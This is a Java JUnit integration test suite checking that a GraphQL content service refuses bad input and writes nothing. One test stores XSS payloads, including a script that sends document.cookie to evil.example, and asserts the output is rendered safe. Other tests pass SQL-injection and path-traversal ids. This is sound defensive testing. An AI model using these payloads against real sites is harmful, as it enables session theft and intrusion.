package nova.system;

import static nova.system.ContentSystem.assertInvalid;
import static nova.system.ContentSystem.assertRefused;
import static nova.system.ContentSystem.createPost;
import static nova.system.ContentSystem.ids;
import static nova.system.ContentSystem.post;
import static nova.system.ContentSystem.postInput;
import static nova.system.ContentSystem.postsOf;
import static nova.system.ContentSystem.read;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.JsonObject;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Issue 16's bad input, one test each, over GraphQL against the running system: every refusal is an error with its
 * {@code extensions.code} (and the field, for invalid input), never a stack trace, and nothing is written — the
 * author's posts are what they were before. With the user context stopped, a create is {@code UNAVAILABLE} and
 * writes nothing, while reads keep working ({@link ContextsDownIT}).
 */
class ContentBadInputIT {

    /** The content context's default limit (nova.content.post.max-chars). */
    static final int MAX_CHARS = 500;

    private static Members.Member ada;
    private static Members.Member bob;

    @BeforeAll
    static void members() throws Exception {
        ada = Members.newcomer("writer");
        bob = Members.newcomer("intruder");
    }

    /** A refused create of {@code member}'s writes nothing: their posts (they see all of their own) stay the same. */
    private static Gql.Result refusedCreate(Members.Member member, Map<String, Object> input) {
        List<String> before = ids(postsOf(member, member));
        Gql.Result result = createPost(member, input, null);
        assertEquals(before, ids(postsOf(member, member)), "nothing written: " + result.errors());
        return result;
    }

    @Test
    void anOverLongTextIsRefusedOnItsField() {
        assertInvalid(refusedCreate(ada, postInput("x".repeat(MAX_CHARS + 1))), "createPost", "text");
        // the limit counts characters, not UTF-16 units: 500 emoji are 1000 units and still fit
        String emoji = "\uD83D\uDE00".repeat(MAX_CHARS);
        assertEquals(emoji, post(ada, postInput(emoji)).getString("text"));
        assertInvalid(refusedCreate(ada, postInput("")), "createPost", "text");
    }

    @Test
    void fiveAttachmentsAreOneTooMany() {
        List<String> photos = new ArrayList<>();
        for (int n = 10; n < 15; n++) {
            photos.add(ContentSystem.photo(ada, n));
        }
        assertInvalid(refusedCreate(ada, postInput("five", "mediaIds", photos)), "createPost", "mediaIds");
        assertEquals(4, post(ada, postInput("four", "mediaIds", photos.subList(0, 4))).getJsonArray("media").size());
    }

    @Test
    void someoneElsesMediaCannotBeAttached() {
        String bobs = ContentSystem.photo(bob, 20);
        assertInvalid(refusedCreate(ada, postInput("mine now", "mediaIds", List.of(bobs))), "createPost", "mediaIds");
        assertInvalid(refusedCreate(ada, postInput("no such media", "mediaIds", List.of(UUID.randomUUID().toString()))),
                "createPost", "mediaIds");
    }

    @Test
    void mediaStillBeingProcessedCannotBeAttachedUntilItIsComplete() {
        JsonObject uploaded = MediaSystem.upload(ada, "slow.mov", ContentSystem.slowVideo(), null);
        String video = uploaded.getString("id");

        Gql.Result early = refusedCreate(ada, postInput("too soon", "mediaIds", List.of(video)));
        assertNotEquals("COMPLETE", uploaded.getString("status").toUpperCase(java.util.Locale.ROOT));
        assertInvalid(early, "createPost", "mediaIds");

        MediaSystem.awaitComplete(ada, video);
        assertEquals(List.of(video), ContentSystem.strings(post(ada, postInput("now", "mediaIds", List.of(video))), "mediaIds"));
    }

    @Test
    void unsafeMarkdownIsStoredAsWrittenAndRenderedSafe() {
        String body = """
                Hello <script>document.location='https://evil.example/?c='+document.cookie</script>

                <img src="x" onerror="alert(1)"> <a href="javascript:alert(2)">a</a> [b](javascript:alert(3))
                [c](data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==) <iframe src="https://evil.example"></iframe>
                <style>body{display:none}</style> <div style="position:fixed" onclick="alert(5)">x</div>

                [fine](https://example.org)
                """;
        JsonObject article = ada.execute(ContentSystem.CREATE_ARTICLE, Map.of("input", Map.of("title", "Unsafe", "body", body)))
                .data("createArticle");

        assertEquals(body, article.getString("body"));
        String html = article.getString("html");
        ContentSystem.assertSafeHtml(html);
        assertTrue(html.contains("href=\"https://example.org\""), html);
    }

    @Test
    void anUnknownReplyTargetIsRefusedAndNothingWritten() {
        Gql.Result result = refusedCreate(ada, postInput("to nobody", "replyToId", UUID.randomUUID().toString()));
        assertInvalid(result, "createPost", "replyToId");
        String hidden = post(bob, postInput("only mine", "visibility", "DIRECT")).getString("id");
        assertInvalid(refusedCreate(ada, postInput("to what I cannot see", "replyToId", hidden)), "createPost", "replyToId");
        assertInvalid(refusedCreate(ada, postInput("quote of nothing", "quoteOfId", UUID.randomUUID().toString())),
                "createPost", "quoteOfId");
        assertInvalid(refusedCreate(ada, postInput("malformed", "replyToId", "../posts/1")), "createPost", "replyToId");
    }

    @Test
    void someoneElsesPostCannotBeEditedOrDeleted() {
        JsonObject adas = post(ada, postInput("my words"));
        String id = adas.getString("id");

        assertRefused(bob.execute(ContentSystem.EDIT_POST, Map.of("id", id, "input", Map.of("text", "your words"))),
                "FORBIDDEN", "editPost");
        assertRefused(bob.execute(ContentSystem.DELETE_POST, Map.of("id", id)), "FORBIDDEN", "deletePost");

        JsonObject now = read(ada, id).data("post");
        assertEquals("my words", now.getString("text"));
        assertTrue(now.isNull("editedAt"));
        assertEquals(1, ada.execute(ContentSystem.EDIT_HISTORY, Map.of("kind", "POST", "id", id)).response().getData()
                .getJsonArray("editHistory").size(), "no version was added");

        String article = ada.execute(ContentSystem.CREATE_ARTICLE, Map.of("input", Map.of("title", "Mine", "body", "text")))
                .data("createArticle").getString("id");
        assertRefused(bob.execute(ContentSystem.PUBLISH_ARTICLE, Map.of("id", article)), "NOT_FOUND", "publishArticle");
    }

    @Test
    void malformedIdsAndPageSizesAreRefusedByTheGateway() {
        assertRefused(read(ada, "1 OR 1=1"), "NOT_FOUND", "post");
        assertRefused(ada.execute(ContentSystem.EDIT_POST, Map.of("id", "../x", "input", Map.of("text", "y"))),
                "NOT_FOUND", "editPost");
        assertInvalid(ada.execute(ContentSystem.POSTS_BY_AUTHOR, Map.of("userId", ada.id(), "first", 101)),
                "postsByAuthor", "first");
        assertInvalid(createPost(ada, postInput("k"), "k".repeat(256)), "createPost", "idempotencyKey");
        try (Gql anonymous = Gql.anonymous()) {
            assertEquals(Optional.of("UNAUTHENTICATED"), anonymous.execute(ContentSystem.CREATE_POST,
                    Map.of("input", postInput("who am I"))).code());
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
